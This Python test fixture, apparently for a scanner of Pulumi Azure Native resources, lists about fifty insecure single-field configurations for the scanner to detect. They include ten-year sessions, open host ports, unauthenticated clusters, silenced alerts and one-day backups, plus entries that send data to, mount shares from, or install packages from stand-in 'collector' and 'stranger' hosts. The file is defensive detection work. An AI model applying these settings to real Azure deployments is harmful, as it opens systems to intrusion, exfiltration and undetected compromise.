"""Attacks on Azure by single fields that no rule named, of apps, clusters, machines, backups and alerts (2026-11-29).

Found by reading every property of the reviewed types in pulumi-azure-native 3.29.0, whose descriptions are those of
Azure's REST documents, read on 2026-11-29; what `harm` refers to beyond them as known.
"""

from ..blind import GROUP, HERE, OURS, RG, Props
from .fields_azure import ESC, attacks

RES = ("FJ-RES-",)
STRANGER = "198.51.100.7"
PORTAL = {**RG, "name": "portal"}
APP = {**RG, "containerAppName": "portal", "authConfigName": "current", "platform": {"enabled": True}}
AKS = {**HERE, "resourceName": "aks"}
POOL = {**RG, "resourceName": "aks", "agentPoolName": "p"}
PORTS = [{"portStart": 1, "portEnd": 65535, "protocol": "TCP"}]
RULE = {**RG, "workspaceName": "soc", "ruleId": "r", "kind": "Scheduled", "displayName": "x", "enabled": True,
        "severity": "High", "query": "AzureActivity | where OperationNameValue has 'roleAssignments/write'",
        "queryFrequency": "PT1H", "queryPeriod": "PT1H", "suppressionEnabled": False, "suppressionDuration": "PT5H",
        "triggerOperator": "GreaterThan", "triggerThreshold": 0,
        "incidentConfiguration": {"createIncident": True}}  # fmt: skip
INCIDENTS = {**RG, "workspaceName": "soc", "ruleId": "d", "kind": "MicrosoftSecurityIncidentCreation", "enabled": True,
             "displayName": "Defender", "productFilter": "Azure Security Center"}  # fmt: skip
ALERT = {**HERE, "ruleName": "owners", "kind": "LogAlert", "enabled": True, "severity": 1, "scopes": [GROUP],
         "evaluationFrequency": "PT5M", "windowSize": "PT5M", "criteria": {"allOf": [{
             "query": RULE["query"], "operator": "GreaterThan", "threshold": 0, "timeAggregation": "Count"}]},
         "actions": {"actionGroups": [f"{OURS}.Insights/actionGroups/soc"]}}  # fmt: skip
PROMETHEUS = {**HERE, "ruleGroupName": "nodes", "scopes": [f"{OURS}.Monitor/accounts/m"]}
LDAP = {"domain": "corp.internal", "dns": "10.0.0.2", "smbServerName": "FILES", "username": "join",
        "aesEncryption": True, "encryptDCConnections": True, "ldapOverTLS": True, "ldapSigning": True}  # fmt: skip


def _sign_in(**login: object) -> Props:
    return {**PORTAL, "platform": {"enabled": True}, "login": login}


def _environment(name: str, value: str) -> Props:
    return {**HERE, "name": "ase", "virtualNetwork": {"id": f"{OURS}.Network/virtualNetworks/v/subnets/s"},
            "clusterSettings": [{"name": name, "value": value}]}  # fmt: skip


def _queue(kind: str, **more: object) -> Props:
    return {**RG, "namespaceName": "bus", f"{kind}Name": "payments", "defaultMessageTimeToLive": "PT1S", **more}


ATTACKS = attacks((
    ("who signed in to an app stays so for ten years", ESC, "web:WebAppAuthSettingsV2",
     _sign_in(cookieExpiration={"convention": "FixedTime", "timeToExpiration": "3650.00:00:00"}), "major",
     "login.cookieExpiration"),
    ("tokens of an app are renewed for ten years", ESC, "web:WebAppAuthSettingsV2",
     _sign_in(tokenStore={"enabled": True, "tokenRefreshExtensionHours": 87600}), "major",
     "login.tokenStore.tokenRefreshExtensionHours"),
    ("users of an app are led to any page", ESC, "web:WebAppAuthSettingsV2",
     _sign_in(allowedExternalRedirectUrls=["https://*"]), "major", "login.allowedExternalRedirectUrls"),
    ("answers of a sign-in can be used for a year", ESC, "web:WebAppAuthSettingsV2",
     _sign_in(nonce={"validateNonce": True, "nonceExpirationInterval": "365.00:00:00"}), "minor", "login.nonce"),
    ("a file of the app says who signs in", ESC, "web:WebAppAuthSettingsV2",
     {**PORTAL, "platform": {"enabled": True, "configFilePath": "auth.json"}}, "major", "platform.configFilePath"),
    ("a file of an older app says who signs in", ESC, "web:WebAppAuthSettings",
     {**PORTAL, "enabled": True, "unauthenticatedClientAction": "RedirectToLoginPage", "isAuthFromFile": "true",
      "authFilePath": "auth.json"}, "major", "isAuthFromFile"),
    ("tokens of an older app are renewed for ten years", ESC, "web:WebAppAuthSettings",
     {**PORTAL, "enabled": True, "unauthenticatedClientAction": "RedirectToLoginPage",
      "tokenRefreshExtensionHours": 87600}, "major", "tokenRefreshExtensionHours"),
    ("who signed in to a container app stays so for ten years", ESC, "app:ContainerAppsAuthConfig",
     {**APP, "login": {"cookieExpiration": {"convention": "FixedTime", "timeToExpiration": "3650.00:00:00"}}}, "major",
     "login.cookieExpiration"),
    ("an environment of App Service accepts outdated TLS", ESC, "web:AppServiceEnvironment",
     _environment("DisableTls1.0", "0"), "major", "clusterSettings"),
    ("an environment of App Service accepts broken ciphers", ESC, "web:AppServiceEnvironment",
     _environment("FrontEndSSLCipherSuiteOrder", "TLS_RSA_WITH_3DES_EDE_CBC_SHA"), "major", "clusterSettings"),
    ("an environment of App Service sends plaintext inside", ESC, "web:AppServiceEnvironment",
     _environment("InternalEncryption", "false"), "minor", "clusterSettings"),
    ("backups of an app are gone after a day", ESC, "web:WebAppBackupConfiguration",
     {**PORTAL, "enabled": True, "storageAccountUrl": "https://stbank.blob.core.windows.net/b", "backupSchedule": {
         "frequencyInterval": 1, "frequencyUnit": "Day", "keepAtLeastOneBackup": True, "retentionPeriodInDays": 1}},
     "major", "backupSchedule.retentionPeriodInDays"),
    ("what containers write goes nowhere", ESC, "app:ManagedEnvironment",
     {**HERE, "environmentName": "apps", "appLogsConfiguration": {"destination": "none"}}, "major",
     "appLogsConfiguration.destination"),
    ("one call of a thousand is recorded", ESC, "apimanagement:Diagnostic",
     {**RG, "serviceName": "apim", "diagnosticId": "azuremonitor", "loggerId": "/loggers/azuremonitor",
      "sampling": {"samplingType": "fixed", "percentage": 0.1}}, "major", "sampling.percentage"),
    ("nodes answer on every port", ESC, "containerservice:AgentPool",
     {**POOL, "networkProfile": {"allowedHostPorts": PORTS}}, "critical", "networkProfile.allowedHostPorts"),
    ("nodes of a cluster's own pool answer on every port", ESC, "containerservice:ManagedCluster",
     {**AKS, "agentPoolProfiles": [{"name": "p", "networkProfile": {"allowedHostPorts": PORTS}}]}, "critical",
     "networkProfile.allowedHostPorts"),
    ("an add-on gives services of a cluster public names", ESC, "containerservice:ManagedCluster",
     {**AKS, "addonProfiles": {"httpApplicationRouting": {"enabled": True}}}, "major", "httpApplicationRouting"),
    ("a console in the cluster acts for whoever reaches it", ESC, "containerservice:ManagedCluster",
     {**AKS, "addonProfiles": {"kubeDashboard": {"enabled": True}}}, "major", "kubeDashboard"),
    ("every program of a machine gets its tokens", ESC, "compute:GalleryInVMAccessControlProfileVersion",
     {**HERE, "galleryName": "g", "inVMAccessControlProfileName": "p", "inVMAccessControlProfileVersionName": "1.0.0",
      "defaultAccess": "Deny", "mode": "Enforce", "rules": {
          "privileges": [{"name": "all", "path": "/"}], "roles": [{"name": "r", "privileges": ["all"]}],
          "identities": [{"name": "any"}], "roleAssignments": [{"role": "r", "identities": ["any"]}]}},
     "major", "rules.privileges.path"),
    ("agents that watch machines are left out of a scale set", ESC, "compute:VirtualMachineScaleSet",
     {**HERE, "vmScaleSetName": "v", "virtualMachineProfile": {"securityPostureReference": {
         "id": "/CommunityGalleries/x", "excludeExtensions": ["MDE.Linux"]}}}, "major", "securityPostureReference"),
    ("every client belongs to a group", ESC, "eventgrid:ClientGroup",
     {**RG, "namespaceName": "mqtt", "clientGroupName": "branches", "query": "1 = 1"}, "major", "query"),
    ("messages of a queue are gone within a second", ESC, "servicebus:Queue", _queue("queue"), "major",
     "defaultMessageTimeToLive"),
    ("messages of a topic are gone within a second", ESC, "servicebus:Topic", _queue("topic"), "major",
     "defaultMessageTimeToLive"),
    ("a copy of machines has no earlier point", ESC, "recoveryservices:ReplicationPolicy",
     {**RG, "resourceName": "rsv", "policyName": "p", "properties": {"providerSpecificInput": {
         "instanceType": "A2A", "recoveryPointHistory": 0, "multiVmSyncStatus": "Enable"}}}, "major",
     "recoveryPointHistory"),
    ("backups of a cluster leave every namespace out", ESC, "dataprotection:BackupInstance",
     {**RG, "vaultName": "bv", "backupInstanceName": "aks", "properties": {
         "objectType": "BackupInstance", "friendlyName": "aks",
         "dataSourceInfo": {"resourceID": f"{OURS}.ContainerService/managedClusters/aks"}, "policyInfo": {
             "policyId": f"{OURS}.DataProtection/backupVaults/bv/backupPolicies/p", "policyParameters": {
                 "backupDatasourceParametersList": [{
                     "objectType": "KubernetesClusterBackupDatasourceParameters", "excludedNamespaces": ["*"],
                     "includeClusterScopeResources": True, "snapshotVolumes": True}]}}}}, "major",
     "excludedNamespaces"),
    ("after its first alert a rule is silent for a month", ESC, "monitor:ScheduledQueryRule",
     {**ALERT, "muteActionsDuration": "P30D"}, "major", "muteActionsDuration"),
    ("an alert rings after a year", ESC, "alertsmanagement:PrometheusRuleGroup",
     {**PROMETHEUS, "rules": [{"alert": "down", "expression": "up == 0", "for": "P365D"}]}, "major", "rules.for"),
    ("after its first alert a detector is silent for a year", ESC, "alertsmanagement:SmartDetectorAlertRule",
     {**HERE, "location": "global", "alertRuleName": "failures", "state": "Enabled", "severity": "Sev1",
      "frequency": "PT1M", "detector": {"id": "FailureAnomaliesDetector"}, "scope": [f"{OURS}.Insights/components/a"],
      "actionGroups": {"groupIds": [f"{OURS}.Insights/actionGroups/soc"]}, "throttling": {"duration": "P365D"}},
     "major", "throttling.duration"),
    ("one call of ten thousand is recorded", ESC, "applicationinsights:Component",
     {**HERE, "resourceName": "ai", "applicationType": "web", "kind": "web", "samplingPercentage": 0.01,
      "workspaceResourceId": f"{OURS}.OperationalInsights/workspaces/w"}, "minor", "samplingPercentage"),
    ("a rule rings after a million new owners", ESC, "securityinsights:ScheduledAlertRule",
     {**RULE, "triggerThreshold": 1000000}, "major", "triggerThreshold"),
    ("no alert of Defender opens an incident", ESC, "securityinsights:MicrosoftSecurityIncidentCreationAlertRule",
     {**INCIDENTS, "displayNamesExcludeFilter": ["*"]}, "major", "displayNamesExcludeFilter"),
    ("only notes of Defender open an incident", ESC, "securityinsights:MicrosoftSecurityIncidentCreationAlertRule",
     {**INCIDENTS, "severitiesFilter": ["Informational"]}, "major", "severitiesFilter"),
    ("changes of devices are not looked at", ESC, "security:IotSecuritySolution",
     {**HERE, "solutionName": "iot", "displayName": "iot", "iotHubs": [f"{OURS}.Devices/IotHubs/h"],
      "disabledDataSources": ["TwinData"]}, "minor", "disabledDataSources"),
    ("nobody sees who connects to SignalR", ("FJ-RSL-117",), "signalrservice:SignalR",
     {**HERE, "resourceName": "s", "resourceLogConfiguration": {"categories": [
         {"name": "ConnectivityLogs", "enabled": "false"}]}}, "minor", "resourceLogConfiguration"),
    ("machines get patches every eight months", ESC, "maintenance:MaintenanceConfiguration",
     {**HERE, "resourceName": "patches", "maintenanceScope": "InGuestPatch", "recurEvery": "35Weeks",
      "startDateTime": "2026-12-01 00:00", "duration": "02:00", "timeZone": "Arabian Standard Time"}, "major",
     "recurEvery"),
    ("members of a cluster are not authenticated", ESC, "servicefabric:ManagedCluster",
     {**HERE, "clusterName": "sf", "dnsName": "sf", "adminUserName": "operator", "sku": {"name": "Standard"},
      "fabricSettings": [{"name": "Security", "parameters": [{"name": "ClusterCredentialType", "value": "None"}]}]},
     "critical", "fabricSettings"),
    ("a gateway of HDInsight asks for no password", ESC, "hdinsight:Cluster",
     {**RG, "clusterName": "spark", "properties": {"clusterDefinition": {"kind": "spark", "configurations": {
         "gateway": {"restAuthCredential.isEnabled": "false"}}}}}, "critical", "configurations.gateway"),
    ("volumes prefer a stranger's server of names", RES, "netapp:Account",
     {**HERE, "accountName": "files", "activeDirectories": [{**LDAP, "preferredServersForLdapClient": STRANGER}]},
     "critical", "the stranger says who opens the files (preferredServersForLdapClient)"),
    ("an app owns the store to which it is linked", ESC, "servicelinker:Linker",
     {"resourceUri": f"{OURS}.Web/sites/portal", "linkerName": "store", "clientType": "python",
      "authInfo": {"authType": "systemAssignedIdentity", "roles": ["Owner"]},
      "targetService": {"type": "AzureResource", "id": f"{OURS}.Storage/storageAccounts/stbank"}}, "critical",
     "authInfo.roles"),
    ("an app owns the store to which it is linked, by number", ESC, "servicelinker:Linker",
     {"resourceUri": f"{OURS}.Web/sites/portal", "linkerName": "store", "clientType": "python",
      "authInfo": {"authType": "systemAssignedIdentity", "roles": ["8e3af657-a8ff-443c-a75c-2fe8c4bcb635"]},
      "targetService": {"type": "AzureResource", "id": f"{OURS}.Storage/storageAccounts/stbank"}}, "critical",
     "authInfo.roles"),
    ("costs are written to a stranger's account", RES, "costmanagement:Export",
     {"scope": "subscriptions/00000000-0000-0000-0000-000000000001", "exportName": "daily", "format": "Csv",
      "definition": {"type": "ActualCost", "timeframe": "MonthToDate"}, "deliveryInfo": {"destination": {
          "container": "in", "storageAccount": "collector", "sasToken": "?sv=x"}}}, "major",
     "deliveryInfo.destination.storageAccount"),
    ("what is attested counts until 2099", ESC, "policyinsights:AttestationAtSubscription",
     {"attestationName": "fine", "policyAssignmentId": f"{OURS}.Authorization/policyAssignments/guard",
      "complianceState": "Compliant", "expiresOn": "2099-01-01T00:00:00Z",
      "evidence": [{"sourceUri": "https://wiki.internal/42"}]}, "minor", "expiresOn"),
    # Of types that were reviewed on the same day.
    ("apps of an environment mount a stranger's share", RES, "app:ManagedEnvironmentsStorage",
     {**RG, "environmentName": "apps", "storageName": "in", "properties": {"azureFile": {
         "accountName": "collector", "shareName": "in", "accessMode": "ReadWrite"}}}, "critical",
     "properties.azureFile.accountName"),
    ("apps of an environment mount a stranger's server of NFS", RES, "app:ManagedEnvironmentsStorage",
     {**RG, "environmentName": "apps", "storageName": "in", "properties": {"nfsAzureFile": {
         "server": "collector.file.core.windows.net", "shareName": "/collector/in", "accessMode": "ReadWrite"}}},
     "critical", "properties.nfsAzureFile.server"),
    ("records of patients go to a stranger's lake", RES, "healthcareapis:AnalyticsConnector",
     {**HERE, "workspaceName": "health", "analyticsConnectorName": "lake", "dataDestinationConfiguration": {
         "type": "datalake", "dataLakeName": "collector"}, "dataMappingConfiguration": {"type": "fhirToParquet"},
      "dataSourceConfiguration": {"type": "fhirservice", "kind": "R4",
                                  "url": "https://h-f.fhir.azurehealthcareapis.com"}},
     "critical", "dataDestinationConfiguration.dataLakeName"),
    ("runbooks may take a private key along", ESC, "automation:Certificate",
     {**RG, "automationAccountName": "ops", "name": "sign", "base64Value": "AA==", "isExportable": True}, "major",
     "isExportable"),
    ("everybody in the organisation calls an agent", ESC, "cognitiveservices:AgentApplication",
     {**RG, "accountName": "ai", "projectName": "claims", "name": "claims", "properties": {
         "authorizationPolicy": {"type": "OrganizationScope"}}}, "major", "properties.authorizationPolicy"),
    ("models of a pool send data to every address", ESC, "machinelearningservices:InferencePool",
     {**HERE, "workspaceName": "ml", "inferencePoolName": "p", "inferencePoolProperties": {
         "scaleUnitConfiguration": {"disablePublicEgress": False}}}, "critical", "disablePublicEgress"),
    ("code of Data Explorer comes from a stranger's index", RES, "kusto:SandboxCustomImage",
     {**RG, "clusterName": "adx", "sandboxCustomImageName": "py", "language": "Python", "languageVersion": "3.11",
      "requirementsFileContent": "--index-url https://packages.collector.example.com/simple\nnumpy"}, "critical",
     "requirementsFileContent"),
))  # fmt: skip
